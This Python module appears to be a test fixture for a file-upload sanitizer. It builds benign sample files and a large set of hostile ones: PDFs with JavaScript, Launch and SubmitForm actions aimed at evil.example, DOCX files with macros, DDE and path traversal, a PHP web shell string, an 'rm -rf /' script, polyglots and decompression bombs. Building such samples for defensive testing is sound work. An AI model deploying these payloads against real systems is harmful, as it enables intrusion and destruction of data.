"""Files made in memory: good ones as people send them, and hostile ones of every family."""

from __future__ import annotations

import io
import struct
import wave
import zipfile
from collections.abc import Callable
from typing import Any

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
GPS_WORDS = b"GPS-OF-THE-PLACEMENT"


# --- Pictures -----------------------------------------------------------------------------


def picture(form: str = "JPEG", size: tuple[int, int] = (60, 40), **more: Any) -> bytes:
    image = Image.new(more.pop("mode", "RGB"), size, more.pop("colour", (200, 30, 30)))
    made = io.BytesIO()
    image.save(made, form, **more)
    return made.getvalue()


def exif() -> bytes:
    """Where it was taken, by whom, and that it lies on its side."""
    found = Image.Exif()
    found[0x0112] = 6
    found[0x013B] = "Canary Artist"
    found[0x9286] = GPS_WORDS
    found.get_ifd(0x8825).update(
        {1: "N", 2: (53.0, 23.0, 7.0), 3: "W", 4: (1.0, 28.0, 2.0), 29: "2026:11:24"}
    )
    return found.tobytes()


def photo() -> bytes:
    return picture(exif=exif(), comment=b"Canary comment")


def png_with_words() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "Canary comment")
    return picture("PNG", pnginfo=info)


def heic() -> bytes:
    image = Image.new("RGB", (64, 48), (10, 120, 10))
    made = io.BytesIO()
    pillow_heif.from_pillow(image).save(made, quality=60, exif=exif())
    return made.getvalue()


def png_of_claimed_size(width: int, height: int) -> bytes:
    """A header that claims a size, with hardly a pixel behind it."""
    import zlib

    def chunk(name: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(1000)))
        + chunk(b"IEND", b"")
    )


# --- PDF ----------------------------------------------------------------------------------


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **save: Any) -> bytes:
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(200, 200))
    page.Contents = Stream(made, b"BT /F1 12 Tf 20 100 Td (Hello) Tj ET")
    if change is not None:
        change(made)
    out = io.BytesIO()
    made.save(out, **save)
    return out.getvalue()


def _action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **more)


def _script() -> Dictionary:
    return _action("JavaScript", JS=String("app.alert(1)"))


def _note(made: pikepdf.Pdf, **more: Any) -> None:
    box = Array([0, 0, 50, 50])
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box)
    for key, value in more.items():
        note["/" + key] = value
    made.pages[0].obj["/Annots"] = Array([made.make_indirect(note)])


def _set(made: pikepdf.Pdf, key: str, value: Any) -> None:
    made.Root["/" + key] = value


def _carry(made: pikepdf.Pdf) -> None:
    made.attachments["run.exe"] = b"MZ not a program"


HOSTILE_PDFS: dict[str, bytes] = {
    "opens a script": pdf(lambda p: _set(p, "OpenAction", _script())),
    "launches a program": pdf(lambda p: _note(p, A=_action("Launch", F=String("calc.exe")))),
    "names a script": pdf(
        lambda p: _set(
            p,
            "Names",
            Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _script()]))),
        )
    ),
    "carries a file": pdf(_carry),
    "holds XFA": pdf(lambda p: _set(p, "AcroForm", Dictionary(XFA=String("<xdp/>")))),
    "opens the web": pdf(
        lambda p: _set(p, "OpenAction", _action("URI", URI=String("https://evil.example")))
    ),
    "sends itself": pdf(
        lambda p: _set(p, "OpenAction", _action("SubmitForm", F=String("https://evil.example")))
    ),
    "scripts a page": pdf(lambda p: p.pages[0].obj.__setitem__("/AA", Dictionary(O=_script()))),
    "sends when a page opens": pdf(
        lambda p: p.pages[0].obj.__setitem__(
            "/AA", Dictionary(O=_action("URI", URI=String("https://evil.example")))
        )
    ),
    "scripts after a jump": pdf(
        lambda p: _set(p, "OpenAction", _action("GoTo", D=String("x"), Next=Array([_script()])))
    ),
    "pins a file to a page": pdf(lambda p: _note(p, Subtype=Name.FileAttachment)),
    "plays rich media": pdf(lambda p: _note(p, Subtype=Name.RichMedia)),
    "scripts in a packed object": pdf(
        lambda p: _note(p, A=p.make_indirect(_script())),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    ),
    "jumps into a carried file": pdf(lambda p: _note(p, A=_action("GoToE"))),
}


def locked_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user="user"))


def pdf_with_hidden_object() -> bytes:
    """A script that the index does not name, for viewers that mend a broken index."""
    whole = pdf()
    lost = b"99 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
    at = whole.rfind(b"xref")
    return whole[:at] + lost + whole[at:]


# --- Word ---------------------------------------------------------------------------------

_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    'openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
    'ContentType="{main}"/></Types>'
)
_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r>{}</w:p></w:body></w:document>'
)


def relation(kind: str, target: str, *, outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="r1" Type="{_OFFICE}{kind}" Target="{target}"{mode}/>'


def docx(
    parts: dict[str, bytes | str] | None = None,
    *,
    main: str = _MAIN,
    relations: str = "",
    body: str = "",
    types: str = _TYPES,
) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types.format(main=main))
        archive.writestr(
            "_rels/.rels", _RELS.format(relation("officeDocument", "word/document.xml"))
        )
        archive.writestr("word/document.xml", _DOCUMENT.format(body))
        archive.writestr("word/_rels/document.xml.rels", _RELS.format(relations))
        for name, content in (parts or {}).items():
            archive.writestr(name, content)
    return made.getvalue()


def zipped(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def _field(words: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{words}</w:instrText></w:r>'


HOSTILE_DOCX: dict[str, bytes] = {
    "macros": docx({"word/vbaProject.bin": b"x"}),
    "macro type": docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "template from outside": docx(
        {
            "word/_rels/settings.xml.rels": _RELS.format(
                relation("attachedTemplate", "https://evil.example/a.dotm", outside=True)
            )
        }
    ),
    "picture from outside": docx(
        relations=relation("image", "https://evil.example/a.png", outside=True)
    ),
    "link to a share": docx(relations=relation("hyperlink", "file://evil/share", outside=True)),
    "object inside": docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "archive inside": docx({"word/media/image1.png": zipped({"a": b"b"})}),
    "page inside": docx({"word/afchunk.html": b"<script>1</script>"}),
    "page by relation": docx({"word/a.xml": "<a/>"}, relations=relation("aFChunk", "a.xml")),
    "entities": docx({"word/styles.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    "runs a command": docx(body=_field("DDE") + _field("AUTO c:\\\\windows cmd")),
    "includes a file": docx(body=_field('INCLUDETEXT "http://evil.example"')),
    "active control": docx({"word/activeX/activeX1.xml": "<a/>"}),
    "climbs out": docx({"../../etc/passwd": b"x"}),
}


def docx_bomb() -> bytes:
    return docx({"word/media/big.dat": bytes(210 * 2**20)})


# --- Sounds -------------------------------------------------------------------------------


def mp3(frames: int = 20, tag: bytes = b"") -> bytes:
    """Frames of 128 kbit/s at 44.1 kHz: 417 bytes each."""
    frame = b"\xff\xfb\x90\x00" + bytes(413)
    head = b""
    if tag:
        size = len(tag)
        head = b"ID3\x04\0\0" + bytes([0, 0, size >> 7 & 127, size & 127]) + tag
    return head + frame * frames


def wav() -> bytes:
    made = io.BytesIO()
    with wave.open(made, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(bytes(1600))
    return made.getvalue()


def wav_with_words() -> bytes:
    body = wav()[8:] + b"LIST" + struct.pack("<I", 14) + b"Canary comment"
    return b"RIFF" + struct.pack("<I", len(body)) + body


def ogg(codec: bytes = b"OpusHead") -> bytes:
    def page(flags: int, body: bytes) -> bytes:
        return b"OggS\0" + bytes([flags]) + bytes(20) + b"\x01" + bytes([len(body)]) + body

    return page(2, codec + bytes(11)) + page(0, b"OpusTags" + bytes(8)) + page(4, bytes(40))


def box(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 8) + name + body


def m4a(track: bytes = b"soun", more: bytes = b"") -> bytes:
    handler = box(b"hdlr", bytes(8) + track + bytes(12))
    labels = box(b"udta", b"Canary comment +53.3852-1.4672/")
    movie = box(b"moov", box(b"trak", box(b"mdia", handler)) + labels)
    return box(b"ftyp", b"M4A \0\0\0\0M4A mp42") + movie + box(b"mdat", bytes(100)) + more


# --- The sets -----------------------------------------------------------------------------

TXT = "Dear all,\nŁukasz reads well – 5 < 6.\n".encode()

#: name → (bytes, the type of what is kept).
GOOD: dict[str, tuple[bytes, str]] = {
    "report.pdf": (pdf(), "pdf"),
    "packed.pdf": (pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), "pdf"),
    "link.pdf": (
        pdf(lambda p: _note(p, A=_action("URI", URI=String("https://www.example.org")))),
        "pdf",
    ),
    "jump.pdf": (pdf(lambda p: _set(p, "OpenAction", _action("GoTo", D=String("a")))), "pdf"),
    "no printing.pdf": (pdf(encryption=pikepdf.Encryption(owner="o", user="")), "pdf"),
    "letter.docx": (docx(), "docx"),
    "with link.docx": (
        docx(
            {"word/media/image1.png": picture("PNG")},
            relations=relation("hyperlink", "https://www.example.org", outside=True),
            body=_field("PAGE") + _field("HYPERLINK"),
        ),
        "docx",
    ),
    "photo.jpg": (photo(), "jpeg"),
    "PHOTO.JPEG": (picture(), "jpeg"),
    "grey.jpg": (picture(mode="L", colour=120), "jpeg"),
    "print.jpg": (picture(mode="CMYK", colour=(1, 2, 3, 4)), "jpeg"),
    "drawing.png": (png_with_words(), "png"),
    "clear.png": (picture("PNG", mode="RGBA", colour=(1, 2, 3, 0)), "png"),
    "palette.png": (picture("PNG", mode="P", colour=3, transparency=3), "png"),
    "IMG_0001.HEIC": (heic(), "jpeg"),
    "notes.txt": (TXT, "txt"),
    "bom.txt": (b"\xef\xbb\xbf" + TXT, "txt"),
    "voice.mp3": (mp3(), "mp3"),
    "tagged.mp3": (mp3(tag=b"Canary comment" * 4), "mp3"),
    "voice.wav": (wav(), "wav"),
    "words.wav": (wav_with_words(), "wav"),
    "voice.ogg": (ogg(), "ogg"),
    "voice.opus": (ogg(b"\x01vorbis"), "ogg"),
    "voice.m4a": (m4a(), "m4a"),
    "no ending": (pdf(), "pdf"),
}

SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"

#: name → (bytes, the code of the refusal).
HOSTILE: dict[str, tuple[bytes, str]] = {
    **{f"{name}.pdf": (content, "active") for name, content in HOSTILE_PDFS.items()},
    **{f"{name}.docx": (content, "active") for name, content in HOSTILE_DOCX.items()},
    "script.svg": (SVG, "active"),
    "script.png": (SVG, "active"),
    "page.html": (HTML, "active"),
    "page.txt": (HTML, "active"),
    "bare page.txt": (b"hello <ScRiPt src=x>", "active"),
    "shell.txt": (b"#!/bin/sh\nrm -rf /\n", "active"),
    "code.txt": (b"<?php system($_GET[0]); ?>", "active"),
    "letter.rtf": (b"{\\rtf1\\object}", "active"),
    "post.txt": (b"%!PS-Adobe-3.0\n", "active"),
    "program.exe": (b"MZ\x90\0\x03" + bytes(200), "unknown_type"),
    "program.pdf": (b"\x7fELF" + bytes(200), "unknown_type"),
    "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "unknown_type"),
    "packed.gz": (b"\x1f\x8b\x08\0" + bytes(60), "unknown_type"),
    "packed.7z": (b"7z\xbc\xaf\x27\x1c" + bytes(60), "unknown_type"),
    "packed.rar": (b"Rar!\x1a\x07\x01\0" + bytes(60), "unknown_type"),
    "film.webm": (b"\x1aE\xdf\xa3" + bytes(60), "unknown_type"),
    "moving.gif": (picture("GIF", mode="P", colour=1), "unknown_type"),
    "scan.tiff": (picture("TIFF"), "unknown_type"),
    "wide.txt": ("hello".encode("utf-16"), "not_utf8"),
    "old letters.txt": (b"caf\xe9", "unknown_type"),
    "bell.txt": (b"ding\x07", "unknown_type"),
    "files.zip": (zipped({"a.txt": b"x"}), "archive"),
    "sheet.docx": (zipped({"[Content_Types].xml": b"<a/>", "xl/workbook.xml": b"<a/>"}), "archive"),
    "locked.pdf": (locked_pdf(), "locked"),
    "lost script.pdf": (pdf_with_hidden_object(), "active"),
    "late.pdf": (b"\n\n" + pdf(), "unknown_type"),
    "page in front.pdf": (HTML + pdf(), "unknown_type"),
    "zip behind.pdf": (pdf() + zipped({"a": b"b"}), "two_in_one"),
    "words behind.pdf": (pdf() + b"\n<script>alert(1)</script>", "two_in_one"),
    "cut.pdf": (pdf()[:200], "damaged"),
    "head only.pdf": (b"%PDF-1.7\n%%EOF", "damaged"),
    "words behind.docx": (docx() + b"tail", "two_in_one"),
    "zip in front.docx": (b"PK\x03\x04" + docx(), "two_in_one"),
    "cut.docx": (docx()[:300], "damaged"),
    "bomb.png": (png_of_claimed_size(30_000, 30_000), "too_many_pixels"),
    "just too wide.png": (png_of_claimed_size(40_000, 1001), "too_many_pixels"),
    "no pixels.png": (b"\x89PNG\r\n\x1a\n" + bytes(50), "damaged"),
    "cut.jpg": (photo()[:400], "damaged"),
    "cut.heic": (heic()[:100], "damaged"),
    "film.m4a": (m4a(b"vide"), "unknown_type"),
    "tail.m4a": (m4a(more=b"PK\x03\x04evil" * 4), "two_in_one"),
    "tail.mp3": (mp3() + b"<script>alert(1)</script>", "damaged"),
    "one frame.mp3": (mp3(1), "damaged"),
    "tail.wav": (wav() + zipped({"a": b"b"}), "two_in_one"),
    "picture.wav": (b"RIFF\x04\0\0\0WAVE", "damaged"),
    "tail.ogg": (ogg() + b"evil", "two_in_one"),
    "film.ogg": (ogg(b"\x80theora"), "unknown_type"),
}

#: Pictures with something behind them are drawn anew, and the something is gone.
WASHED: dict[str, tuple[bytes, bytes]] = {
    "page behind.png": (picture("PNG") + HTML, b"<script>"),
    "code behind.jpg": (picture() + b"<?php evil(); ?>", b"<?php"),
    "zip behind.jpg": (picture() + zipped({"a.txt": b"b"}), b"PK\x03\x04"),
    "comment.jpg": (picture(comment=b"<script>1</script>"), b"<script>"),
    "place.jpg": (photo(), GPS_WORDS),
    "words.png": (png_with_words(), b"Canary"),
    "place.heic": (heic(), GPS_WORDS),
    "tagged.mp3": (mp3(tag=b"Canary comment" * 4), b"Canary"),
    "words.wav": (wav_with_words(), b"Canary"),
    "place.m4a": (m4a(), b"Canary"),
}


def padded_pdf(size: int) -> bytes:
    """A good PDF of about a size that no compression makes smaller."""
    import hashlib

    noise = b"".join(hashlib.sha256(str(n).encode()).digest() for n in range(size // 32))
    return pdf(lambda made: made.pages[0].obj.__setitem__("/Noise", Stream(made, noise)))
